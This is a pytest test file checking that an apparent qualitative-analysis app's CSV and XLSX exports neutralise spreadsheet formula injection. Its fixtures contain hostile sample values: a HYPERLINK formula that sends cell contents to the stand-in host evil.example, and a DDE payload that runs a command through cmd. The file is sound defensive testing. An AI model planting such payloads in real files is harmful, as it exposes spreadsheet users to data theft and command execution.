"""No CSV or XLSX the app writes lets a spreadsheet run what a user typed (CSV/formula injection).

Names of nodes, cases, attributes, accounts and coded text that begin with
=, +, -, @, a tab or a carriage return are written so that a spreadsheet
shows them as text: an apostrophe before them in CSV, a string cell with the
quote-prefix flag in XLSX (the value itself unchanged).
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest

from qdaapp.core import cases, coding, narrative, nodes, sources
from qdaapp.core.exchange import analysis, matrix, sheets, themes
from qdaapp.core.plugins import save_analysis_table
from qdaapp.core.project import Project

HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click") and more words\n'
NODE = "=cmd|' -C calc'!A0"
FREE = "@SUM(1+1)"
CASE = "+41 Rosa"
ATTR = "-role"
VALUE = "=1+2"
ACCOUNT = "-2+3 account"
FRAGMENT = "@fragment summary"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(project: Project, tmp_path: Path) -> Project:
    f = tmp_path / "Evil.txt"
    f.write_text(HOSTILE_TEXT, encoding="utf-8")
    docs, failures = sources.read_files([f])
    assert not failures
    project.run(sources.import_documents, docs, kind="interview", case_name=CASE)
    project.run(cases.set_attribute, "case", CASE, ATTR, VALUE)
    project.run(nodes.create_node, NODE)
    project.run(nodes.create_node, FREE, free=True)
    project.run(coding.code, "Evil.txt", 0, 40, NODE, coder="tester")
    project.run(coding.code, "Evil.txt", 0, 10, FREE, coder="tester")
    acc = project.run(narrative.create_account, ACCOUNT)
    project.run(narrative.add_passage, acc, "Evil.txt", 0, 40)
    project.run(narrative.add_fragment, acc, FRAGMENT, case_ref=CASE)
    return project


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def assert_csv_inert(path: Path, expected: list[str]) -> None:
    cells = csv_cells(path)
    assert not [c for c in cells if c.startswith(STARTS)], path.name
    for text in expected:
        assert any(c.startswith("'" + text) for c in cells), (path.name, text)


def assert_xlsx_inert(path: Path, expected: list[str]) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(STARTS):
                    assert c.data_type == "s" and c.quotePrefix, (path.name, c.coordinate, c.value)
                    seen.append(c.value)
    for text in expected:
        assert any(v.startswith(text) for v in seen), (path.name, text)


@pytest.mark.parametrize("value, out", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (-3, -3), (2.5, 2.5)])
def test_neutralise(value, out) -> None:
    assert sheets.neutralise(value) == out


def test_themes_csv_and_xlsx(hostile: Project, tmp_path: Path) -> None:
    with hostile.read_session() as s:
        themes.export_themes(s, tmp_path / "t.csv", "csv")
        themes.export_themes(s, tmp_path / "t.xlsx", "xlsx")
    expected = [NODE, FREE, CASE, ATTR, VALUE, HOSTILE_TEXT[:10]]
    assert_csv_inert(tmp_path / "t.csv", expected)
    assert_xlsx_inert(tmp_path / "t.xlsx", expected)


@pytest.mark.parametrize("by, expected", [("case", [NODE, FREE, CASE]), (f"attribute:{ATTR}", [NODE, VALUE])])
def test_frequencies_csv_and_xlsx(hostile: Project, tmp_path: Path, by: str, expected: list[str]) -> None:
    with hostile.read_session() as s:
        analysis.export_frequencies(s, tmp_path / "f.csv", by=by)
        analysis.export_frequencies(s, tmp_path / "f.xlsx", by=by)
    assert_csv_inert(tmp_path / "f.csv", expected)
    assert_xlsx_inert(tmp_path / "f.xlsx", expected)


def test_cooccurrence_csv_and_xlsx(hostile: Project, tmp_path: Path) -> None:
    with hostile.read_session() as s:
        analysis.export_cooccurrence(s, tmp_path / "c.csv")
        analysis.export_cooccurrence(s, tmp_path / "c.xlsx")
    assert_csv_inert(tmp_path / "c.csv", [NODE, FREE])
    assert_xlsx_inert(tmp_path / "c.xlsx", [NODE, FREE])


@pytest.mark.parametrize("rows", ["cases", "sources"])
def test_framework_csv_and_xlsx(hostile: Project, tmp_path: Path, rows: str) -> None:
    with hostile.read_session() as s:
        matrix.export_matrix(s, tmp_path / "m.csv", rows, "accounts", include_interviewer=True)
        matrix.export_matrix(s, tmp_path / "m.xlsx", rows, "accounts", include_interviewer=True)
    first = [CASE] if rows == "cases" else []
    assert_csv_inert(tmp_path / "m.csv", first + [ACCOUNT])
    assert_xlsx_inert(tmp_path / "m.xlsx", first + [ACCOUNT])


def test_plugin_analysis_table(tmp_path: Path) -> None:
    result = {"columns": ["=name", "count"], "rows": [[NODE, 3], ["\t=tab", -1], ["plain", 2]]}
    save_analysis_table(result, tmp_path / "a.csv")
    assert csv_cells(tmp_path / "a.csv") == ["'=name", "count", "'" + NODE, "3", "'\t=tab", "-1", "plain", "2"]
